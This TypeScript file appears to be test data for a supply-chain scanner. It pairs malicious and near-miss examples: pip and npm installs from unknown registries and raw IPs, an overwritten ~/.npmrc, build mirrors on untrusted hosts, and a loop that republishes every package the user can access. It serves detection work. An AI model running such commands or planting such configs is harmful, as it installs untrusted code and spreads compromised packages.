import { code, type RuleExamples } from "./corpus-case.ts";

/** Packages from unusual places. */
export const registries: readonly RuleExamples[] = [
  {
    rule: "other-registry",
    malicious: [
      code("npm install kit-helper --registry https://npm.note-tools.dev"),
      code("pip install kit --extra-index-url https://pypi.note-tools.dev/simple"),
      code("pip install -i https://pypi.note-tools.dev/simple kit"),
    ],
    nearMiss: [
      code("npm publish --registry https://registry.example.com"),
      code("npm install kit --registry https://registry.npmjs.org"),
      code("pip install torch --index-url https://download.pytorch.org/whl/cpu"),
    ],
  },
  {
    rule: "package-from-address",
    malicious: [
      code("pip install https://files.note-tools.dev/kit-1.0.tar.gz"),
      code("npm i https://files.note-tools.dev/kit.tgz"),
    ],
    nearMiss: [
      code("pip install requests==2.32.3"),
      code("pip install -i https://pypi.tuna.tsinghua.edu.cn/simple requests"),
      code("npm install https://github.com/cli/kit/archive/v1.tar.gz"),
    ],
  },
  {
    rule: "package-from-untrusted-host",
    malicious: [
      code("pip install note-utils --index-url http://45.61.136.7:8080/simple"),
      code("npm i -g https://cdn.fmt-tools.top/fmt.tgz"),
      code("pip install http://193.23.55.8/kit.whl"),
    ],
    nearMiss: [code("npm install -g prettier@3.3.3")],
  },
  {
    rule: "unpinned-runner",
    malicious: [{ "mcp.json": '{ "command": "npx -y @kit/server@latest" }\n' }],
    nearMiss: [{ "mcp.json": '{ "command": "npx -y @kit/server@1.2.3" }\n' }],
  },
  {
    rule: "registry-changed-for-user",
    malicious: [
      {
        "scripts/bootstrap.sh": 'cat > "$HOME/.npmrc" <<EOF\nregistry=https://npm.note-tools.dev\nEOF\n',
      },
    ],
    nearMiss: [
      { "scripts/bootstrap.sh": "npm config set registry https://registry.npmjs.org\n" },
      { "scripts/bootstrap.sh": 'cp .npmrc.example "$HOME/.npmrc"\n' },
    ],
  },
  {
    rule: "dependency-from-address",
    malicious: [
      { "template/package.json": '{ "dependencies": { "notes": "https://dl.note-tools.dev/notes.tgz" } }\n' },
    ],
    nearMiss: [
      {
        "template/package.json":
          '{ "dependencies": { "notes": "^1.2.0" }, "homepage": "https://note-tools.dev" }\n',
      },
    ],
  },
  {
    rule: "packages-republished",
    malicious: [
      {
        "scripts/release.mjs":
          'const list = JSON.parse(execSync("npm access list packages --json"));\nfor (const folder of list) execSync("npm version patch && npm publish --access public", { cwd: folder });\n',
      },
    ],
    nearMiss: [
      { "scripts/release.sh": "npm version patch\nnpm publish --access public\n" },
      { "scripts/release.sh": "npm access ls-packages\nnpm version patch\nnpm publish --access public\n" },
      {
        "scripts/release.sh":
          "npm access list packages @vendor\nfor package in packages/*; do (cd $package && npm publish); done\n",
      },
    ],
  },
  {
    rule: "build-tool-from-unknown-host",
    malicious: [
      {
        "template/gradle/wrapper/gradle-wrapper.properties":
          "distributionUrl=https\\://build.note-tools.dev/gradle-8.5-bin.zip\n",
      },
      {
        "template/.mvn/settings.xml":
          "<settings><mirrors><mirror><mirrorOf>*</mirrorOf><url>https://build.note-tools.dev/maven</url></mirror></mirrors></settings>\n",
      },
      {
        "template/.cargo/config.toml":
          '[source.fast]\nregistry = "sparse+https://build.note-tools.dev/index/"\n',
      },
      {
        "scripts/build.sh":
          "#!/bin/sh\nexport GOPROXY=https://build.note-tools.dev GONOSUMDB='*'\ngo build\n",
      },
    ],
    nearMiss: [
      {
        "template/gradle/wrapper/gradle-wrapper.properties":
          "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
      },
      { "scripts/build.sh": "#!/bin/sh\nexport GOPROXY=https://goproxy.cn,direct\ngo build\n" },
      { "scripts/build.sh": "#!/bin/sh\nexport GOPROXY=https://goproxy.note-tools.dev,direct\ngo build\n" },
      {
        "template/.cargo/config.toml":
          '[registries.notes]\nregistry = "sparse+https://cargo.note-tools.dev/index/"\n',
      },
    ],
  },
];
